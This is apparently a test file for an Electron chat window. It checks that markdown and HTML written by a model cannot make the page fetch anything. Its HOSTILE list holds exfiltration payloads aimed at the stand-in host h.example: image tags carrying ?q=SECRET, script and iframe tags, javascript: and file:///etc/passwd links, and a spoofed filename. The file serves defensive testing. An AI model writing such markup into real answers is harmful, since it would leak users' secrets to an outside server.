import { expect, test } from './app.js';
import { log, mine, open } from './conversation-window.js';
import { watchForFaults } from './places.js';
import { sampleMessage } from './window-samples.js';

/** What a model could be talked into writing, so that what it read leaves with the drawing of it. */
const HOSTILE = [
  '![x](https://h.example/?q=SECRET)',
  '![x][ref]\n\n[ref]: https://h.example/ref?q=SECRET',
  '[![x](https://h.example/in-link?q=SECRET)](https://h.example)',
  '<img src="https://h.example/html?q=SECRET" onerror="fetch(`https://h.example/js`)">',
  '<iframe src="https://h.example/frame"></iframe><script src="https://h.example/s.js"></script>',
  '<style>@import "https://h.example/css"; * { background: url(https://h.example/bg) }</style>',
  '<link rel="prefetch" href="https://h.example/prefetch"><svg><image href="https://h.example/svg"/></svg>',
  '[a](javascript:fetch("https://h.example/js")) [b](data:text/html,x) [c](file:///etc/passwd) [d](gatehouse://app/)',
  '![][][][(((https://h.example/nested)))',
  '```html\n<img src="https://h.example/code">\n```',
  'https://xn--pple-43d.example/ https://h.example/\u202egnp.exe',
].join('\n\n');

test('Nothing that a model writes makes the page ask anybody for anything', async ({ gatehouse }) => {
  const { page, electron } = gatehouse;
  const faults = watchForFaults(page);
  await electron.evaluate(({ session }) => {
    const asked: string[] = [];
    Object.assign(globalThis, { asked });
    // What the window's own guard stops is heard of here too.
    const note = ({ url }: { readonly url: string }): void => void (url.startsWith('gatehouse:') || asked.push(url));
    session.defaultSession.webRequest.onErrorOccurred(note);
    session.defaultSession.webRequest.onSendHeaders(note);
  });
  // Most is refused by the page's own policy, before anybody is asked.
  await page.evaluate(() => {
    const stopped: string[] = [];
    Object.assign(globalThis, { stopped });
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => stopped.push(blockedURI));
  });
  const asked = async () => [
    ...(await electron.evaluate(() => (globalThis as unknown as { readonly asked: readonly string[] }).asked)),
    ...(await page.evaluate(() => (globalThis as unknown as { readonly stopped: readonly string[] }).stopped)),
  ];
  await open(gatehouse, [mine('m1', 'Look.'), sampleMessage('m2', HOSTILE)]);
  await expect(log(page)).toContainText('https://h.example/code');
  await expect(log(page).locator('img, iframe, script, style, link, svg image, object, embed')).toHaveCount(0);
  const targets = await log(page)
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
  expect(targets.filter((target) => /^(?:javascript|data|file|gatehouse):/iu.test(target))).toEqual([]);
  expect(await asked()).toEqual([]);
  // It would have been heard.
  await page.evaluate(() => fetch('https://h.example/by-the-page').catch(() => undefined));
  await page.evaluate(() => void (new Image().src = 'https://h.example/image'));
  await expect.poll(asked).not.toEqual([]);
  expect(faults().filter((fault) => !fault.includes('h.example'))).toEqual([]);
});
